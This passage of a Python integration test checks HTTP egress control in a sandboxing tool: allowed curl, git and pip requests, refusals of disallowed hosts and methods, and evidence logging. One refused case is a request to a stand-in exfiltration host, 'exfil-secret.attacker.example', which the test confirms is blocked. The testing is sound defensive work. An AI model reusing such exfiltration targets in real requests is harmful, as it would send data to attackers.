    linux.network.http_methods refuses the others."""
    ns, d, dnslog, medlog = local_setup(env)
    root = package_root(env, d)
    uplog = os.path.join(d, "upstream.jsonl")
    open(uplog, "w").close()
    up = subprocess.Popen(env.ns_prefix(ns) + ["/usr/bin/python3", env.tool("httpserve.py"),
                                               uplog, "192.0.2.10,8080"],
                          env=dict(os.environ, HTTPSERVE_ROOT=root), stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True)
    env.children.append(up)
    check(up.stdout.readline().strip() == "ready", "httpserve did not start")

    def run(tag, mode, policy=None):
        ws = tempfile.mkdtemp(prefix="gensee-it-ws.", dir="/var/tmp")
        env.cleanup_dirs.append(ws)
        os.chmod(ws, 0o755)
        gh = os.path.join(ws, ".gensee")
        os.mkdir(gh)
        if policy is not None:
            with open(os.path.join(gh, "policy.json"), "w") as f:
                json.dump(policy, f)
        env.chown_to_user(ws)
        r = env.gensee("run", "--sandbox", "linux", "--allow-net", "pkgs.example.com,tcp,8080",
                       "--allow-net", "gone.example.com,tcp,8080",
                       "--json", "--", "/bin/sh", "-c", HTTP_TOOLS, tag, mode,
                       env.tool("dnsclient.py"), cwd=ws,
                       env={"GENSEE_HOME": gh}, timeout=240)
        check(r.returncode == 0, "%s: rc %d %s\n%s" % (tag, r.returncode, r.stderr,
                                                      open(medlog).read()))
        rd = lambda n: open(os.path.join(ws, n)).read() if os.path.exists(os.path.join(ws, n)) \
            else None
        out = json.loads(r.stdout)
        return ws, rd, out["record"]["operation_id"], out

    ws, rd, opid, out = run("full", "full")
    check(rd("proxy.txt").startswith("http://gensee:") and rd("noproxy.txt").strip() ==
          "localhost,127.0.0.1,::1", "proxy variables: %r %r" % (rd("proxy.txt"),
                                                                rd("noproxy.txt")))
    check(rd("hello.out.code") == "200" and rd("hello.out") == "hello over plain http\n",
          "curl GET: %r %r %r\n%s" % (rd("hello.out.code"), rd("hello.out"), rd("hello.out.err"),
                                      open(medlog).read()))
    check(rd("put.out.code") == "200", "curl PUT: %r %r" % (rd("put.out.code"), rd("put.out")))
    check(rd("git.rc").strip() == "0" and
          open(os.path.join(ws, "clone", "README")).read() == "cloned through the egress\n",
          "git clone http://: %r %r" % (rd("git.rc"), rd("git.out")))
    check(rd("pip.rc").strip() == "0" and os.path.exists(os.path.join(ws, "pipt", "gensee_probe",
                                                                     "__init__.py")),
          "pip install --index-url http://: %r %r" % (rd("pip.rc"), rd("pip.out")))
    # Refusals: 403, a JSON body with the rule and the flag that would allow it.
    for f, code, allow in (("name.json", "name_not_allowed",
                            "--allow-net exfil-secret.attacker.example,tcp,8080"),
                           ("port.json", "name_not_allowed", "--allow-net pkgs.example.com,tcp,8081"),
                           ("literal.json", "address_literal", None)):
        body = json.loads(rd(f))
        check(rd(f + ".code") == "403" and body["error"] == code and
              body["policy_key"] == "linux.network.allow" and
              (allow is None or body["allow_with"] == allow), "%s: %r %r" % (f, rd(f + ".code"), body))
    # The name is decided before it is resolved: the test's DNS server never
    # saw the refused one (by DNS or through the egress); an allowed name
    # that does not exist is a 502 and a decision in the evidence.
    seen = [json.loads(l)["name"] for l in open(dnslog) if l.strip()]
    check("exfil-secret.attacker.example" not in seen and "gone.example.com" in seen,
          "the DNS server saw %r" % seen)
    check(rd("gone.json.code") == "502" and json.loads(rd("gone.json"))["error"] ==
          "resolve_failed", "gone: %r %r" % (rd("gone.json.code"), rd("gone.json")))
    # What reached the upstream: origin form, our Host, no credential, close.
    with open(uplog) as f:
        reqs = [e for e in (json.loads(l) for l in f if l.strip()) if e["event"] == "request"]
    hello = [e for e in reqs if e["target"] == "/files/hello.txt"]
    check(len(hello) == 1 and hello[0]["headers"]["host"] == "pkgs.example.com:8080" and
          hello[0]["headers"].get("connection") == "close" and
          not any(k.startswith("proxy-") for e in reqs for k in e["headers"]),
          "upstream saw: %r" % reqs)
    check(any(e["method"] == "PUT" and e["target"] == "/put" for e in reqs), "no PUT: %r" % reqs)
    check(any(e["target"].startswith("/files/repo.git/") for e in reqs) and
          any(e["target"].startswith("/files/simple/gensee-probe") for e in reqs),
          "no git or pip request upstream: %r" % [e["target"] for e in reqs])
    # Evidence: every request a decision; the refused names too.
    p = os.path.join(env.state, "network-operations", opid, "effects.jsonl")
    with open(p) as f:
        ev = [e for e in (json.loads(l) for l in f if l.strip())
              if e.get("type") == "connect_decision"]
    http = [(e["method"], e["url"], e["reason"]) for e in ev if e["kind"] == "http"]
    check(("GET", "http://pkgs.example.com:8080/files/hello.txt", "allowed") in http and
          ("PUT", "http://pkgs.example.com:8080/put", "allowed") in http and
          ("GET", "http://exfil-secret.attacker.example:8080/x", "name_not_allowed") in http and
          ("GET", "http://pkgs.example.com:8081/x", "name_not_allowed") in http and
          ("GET", "http://gone.example.com:8080/x", "no_addresses") in http, "evidence: %r" % http)
    # The run's summary explains each refusal once, with what would allow it.
    why = {(x["kind"], x["what"]): x for x in out.get("refused", [])}
    h = why.get(("http", "GET http://exfil-secret.attacker.example:8080/x"), {})
    d = why.get(("dns", "DNS A exfil-secret.attacker.example"), {})
    check(h.get("allow_with") == "--allow-net exfil-secret.attacker.example,tcp,8080" and
          d.get("reason") == "name_not_allowed" and
          d.get("allow_with", "").startswith("--allow-net exfil-secret.attacker.example,tcp,") and
          "192.0.2.53" not in json.dumps(out.get("refused")), "refused: %r" % out.get("refused"))
    r = env.gensee("timeline", "--operation", opid)
    check("HTTP GET http://pkgs.example.com:8080/files/hello.txt -> allow (allowed)" in r.stdout and
          "HTTP GET http://pkgs.example.com:8081/x -> deny (name_not_allowed)" in r.stdout,
          "timeline: %s %s" % (r.stdout, r.stderr))
    # A policy that allows only GET: PUT is refused, and says which key allows it.
    ws, rd, opid, out = run("narrow", "short", {"linux": {"network": {"http_methods": ["GET"]}}})
    body = json.loads(rd("put.out"))
    check(rd("put.out.code") == "403" and body["error"] == "method_not_allowed" and
          body["policy_key"] == "linux.network.http_methods", "PUT narrowed: %r" % body)
    check(rd("hello.out.code") == "200", "GET narrowed: %r" % rd("hello.out.code"))


if __name__ == "__main__":
    main({"dns_allowed_names_leased": dns_allowed_names_leased,
          "dns_refusals": dns_refusals,
          "dns_ttl_expiry": dns_ttl_expiry,
          "dns_survives_restart": dns_survives_restart,
          "dns_gensee_run": dns_gensee_run,
          "dns_run_network_config": dns_run_network_config,
          "dns_connect_egress": dns_connect_egress,
          "dns_http_egress": dns_http_egress})
